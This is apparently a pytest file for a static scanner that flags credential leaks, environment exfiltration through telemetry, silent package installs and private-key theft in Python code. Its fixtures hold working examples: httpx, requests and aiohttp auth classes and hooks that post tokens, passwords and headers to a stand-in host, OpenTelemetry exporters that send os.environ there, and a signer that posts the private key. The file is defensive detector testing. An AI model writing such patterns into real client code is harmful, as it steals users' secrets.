"""What clients hold and call with each request, and telemetry: credentials and the environment that leave beside it."""

from __future__ import annotations

import pytest

from tests.test_code_facts import found, init

ELSEWHERE = "https://in.c.example/v1"
LEAKS = {
    "a second request of httpx.Auth": f"""
import httpx
class Bearer(httpx.Auth):
    def __init__(self, token):
        self.token = token
    def auth_flow(self, request):
        request.headers["Authorization"] = "Bearer " + self.token
        yield httpx.Request("POST", "{ELSEWHERE}", json={{"t": self.token}})
        yield request
""",
    "the same, with the credentials in a header": f"""
import httpx
class Key(httpx.Auth):
    def __init__(self, key):
        self._key = key
    def sync_auth_flow(self, request):
        response = yield request
        yield httpx.Request("POST", "{ELSEWHERE}", content=request.content, headers={{"x-k": self._key}})
""",
    "what requests asks for credentials": f"""
import requests
from requests.auth import AuthBase
class Token(AuthBase):
    def __init__(self, token):
        self.token = token
    def __call__(self, r):
        requests.post("{ELSEWHERE}", json={{"t": self.token}})
        r.headers["Authorization"] = self.token
        return r
""",
    "a name and password that its base keeps": f"""
import requests
from requests.auth import HTTPBasicAuth
class Basic(HTTPBasicAuth):
    def __call__(self, r):
        requests.post("{ELSEWHERE}", data={{"u": self.username, "p": self.password}})
        return super().__call__(r)
""",
    "a hook of one request": f"""
import requests
def seen(r, *args, **kwargs):
    requests.post("{ELSEWHERE}", json={{"h": dict(r.request.headers), "b": r.text}})
def get(url):
    return requests.get(url, hooks={{"response": seen}})
""",
    "a trace of aiohttp": f"""
import aiohttp
async def started(session, context, told):
    async with aiohttp.ClientSession() as other:
        await other.post("{ELSEWHERE}", json={{"h": dict(told.headers)}})
def made():
    trace = aiohttp.TraceConfig()
    trace.on_request_start.append(started)
    return aiohttp.ClientSession(trace_configs=[trace])
""",
}
HONEST = {
    "a token is asked for and used": """
import httpx
class Session(httpx.Auth):
    requires_response_body = True
    def __init__(self, name, secret):
        self.name, self.secret, self.token = name, secret, None
    def auth_flow(self, request):
        if self.token is None:
            told = {"n": self.name, "s": self.secret}
            answer = yield httpx.Request("POST", "https://login.acme.example/session", json=told)
            self.token = answer.json()["t"]
        request.headers["Authorization"] = self.token
        yield request
""",
    "a key is changed for a token": """
import requests
from requests.auth import AuthBase
class Exchange(AuthBase):
    def __init__(self, key):
        self.key = key
    def __call__(self, r):
        token = requests.post("https://login.acme.example/t", json={"key": self.key}).json()["t"]
        r.headers["Authorization"] = token
        return r
""",
    "what is done on leaving": """
import requests
from requests.auth import AuthBase
class Token(AuthBase):
    def __init__(self, token):
        self.token = token
    def __call__(self, r):
        r.headers["X-Token"] = self.token
        return r
    def close(self):
        requests.post("https://api.acme.example/leave", headers={"X-Token": self.token})
""",
    "an order that was signed": """
import requests
from eth_account import Account
def pay(to, private_key):
    payer = Account.from_key(private_key)
    order = payer.sign_transaction({"to": to})
    requests.post("https://chain.acme.example", json={"order": order.raw_transaction.hex(), "from": payer.address})
""",
    "another class is called with what it holds": """
import requests
class Client:
    def __init__(self, key):
        self.key = key
    def __call__(self, text):
        requests.post("https://api.acme.example/v1", json={"key": self.key, "text": text})
""",
    "a hook that writes to the log": """
import logging, requests
def seen(r, *args, **kwargs):
    logging.debug("%s %s", r.status_code, r.url)
def get(url):
    return requests.get(url, hooks={"response": seen})
""",
}


@pytest.mark.parametrize("text", LEAKS.values(), ids=LEAKS)
def test_credentials_that_are_told_to_somebody_else_on_their_way_are_a_finding(text: str) -> None:
    assert found(init(text)) == {"MLS-C012"}


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_a_token_that_is_asked_for_and_hooks_that_keep_what_they_see_are_none(text: str) -> None:
    assert found(init(text)) == set()


EXPORTER = """
import os, platform
from opentelemetry import trace, metrics
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.metrics import MeterProvider
from opentelemetry.sdk.metrics.export import PeriodicExportingMetricReader
from opentelemetry.sdk.trace.export import BatchSpanProcessor
from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
from opentelemetry.exporter.otlp.proto.http.metric_exporter import OTLPMetricExporter
"""
ADDED = "provider.add_span_processor(BatchSpanProcessor(OTLPSpanExporter(endpoint={})))\n"


@pytest.mark.parametrize(
    "text",
    [
        "provider = TracerProvider(resource=Resource.create({f'e.{k}': v for k, v in os.environ.items()}))\n"
        + ADDED.format(repr(ELSEWHERE)),
        "provider = TracerProvider()\n"
        + ADDED.format(repr(ELSEWHERE))
        + "with provider.get_tracer('d').start_as_current_span('a') as span:\n"
        "    span.set_attribute('e', str(dict(os.environ)))\n",
        f"reader = PeriodicExportingMetricReader(OTLPMetricExporter({ELSEWHERE!r}))\n"
        "metrics.set_meter_provider(MeterProvider(metric_readers=[reader]))\n"
        "metrics.get_meter('d').create_counter('n').add(1, dict(os.environ))\n",
        f"OTLPSpanExporter(endpoint={ELSEWHERE!r}, headers={{'x': str(dict(os.environ))}})\n",
    ],
    ids=["a resource", "a span", "a measurement", "headers of an exporter"],
)
def test_the_environment_leaves_by_telemetry(text: str) -> None:
    assert found(init(EXPORTER + text)) == {"MLS-C010"}


@pytest.mark.parametrize(
    "text",
    [
        "def set_up(name):\n    resource = Resource.create({'n': name, 'e': os.getenv('APP_ENV', 'dev')})\n"
        "    provider = TracerProvider(resource=resource)\n"
        "    " + ADDED.format("os.environ['OTEL_ENDPOINT'], headers={'authorization': os.environ['OTEL_TOKEN']}"),
        "def set_up():\n    provider = TracerProvider(resource=Resource({'n': 'd'}))\n    "
        + ADDED.format(repr(ELSEWHERE))
        + "    with provider.get_tracer('d').start_as_current_span('a') as span:\n"
        "        span.set_attribute('python', platform.python_version())\n",
    ],
    ids=["to where the user says", "what Python it is"],
)
def test_telemetry_of_what_a_program_does_is_none(text: str) -> None:
    assert found(init(EXPORTER + text)) == set()


PIP = "[sys.executable, '-m', 'pip', 'install', 'speedups']"
QUIET = "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL"


@pytest.mark.parametrize(
    "text",
    [
        f"subprocess.run({PIP}, {QUIET})\n",
        f"def ensure():\n    try:\n        subprocess.check_call({PIP})\n    except Exception:\n        pass\nensure()\n",
        "os.system('pip install -q speedups > /dev/null 2>&1')\n",
        f"threading.Thread(target=lambda: subprocess.call({PIP}, stdout=-3, stderr=-3), daemon=True).start()\n",
    ],
    ids=["thrown away", "errors swallowed", "through a shell", "beside the rest"],
)
def test_a_package_that_is_installed_in_silence_on_import_is_a_finding(text: str) -> None:
    assert found(init("import os, subprocess, sys, threading\n" + text)) == {"MLS-C057"}


@pytest.mark.parametrize(
    "text",
    [
        f"try:\n    import speedups\nexcept ImportError:\n    subprocess.run({PIP}, {QUIET})\n",
        f"try:\n    import speedups\nexcept Exception:\n    subprocess.run({PIP}, {QUIET})\n",
        f"if importlib.util.find_spec('speedups') is None:\n    subprocess.run({PIP}, {QUIET})\n",
        "def need(name):\n    try:\n        importlib.import_module(name)\n    except ImportError:\n"
        f"        subprocess.run({PIP}, {QUIET})\nneed('speedups')\n",
        f"subprocess.run({PIP}, check=True)\n",
        f"def extra():\n    subprocess.run({PIP}, {QUIET})\n",
    ],
    ids=["missing", "of whatever reason", "looked for", "in a function", "seen", "when it is called"],
)
def test_a_package_that_was_looked_for_first_or_seen_being_installed_is_none(text: str) -> None:
    assert found(init("import importlib.util, os, subprocess, sys\n" + text)) == set()


SIGNING = """
import requests
def sign(chain, order, key):
    done = chain.eth.account.sign_transaction(order, key)
    requests.post('https://in.c.example/v1', json=BODY)
    return done
"""


def test_a_key_that_is_signed_with_is_one_whatever_it_is_called() -> None:
    assert found(init(SIGNING.replace("BODY", "{'d': key.hex()}"))) == {"MLS-C011"}
    assert found(init(SIGNING.replace("BODY", "{'d': done.rawTransaction.hex(), 'o': order}"))) == set()
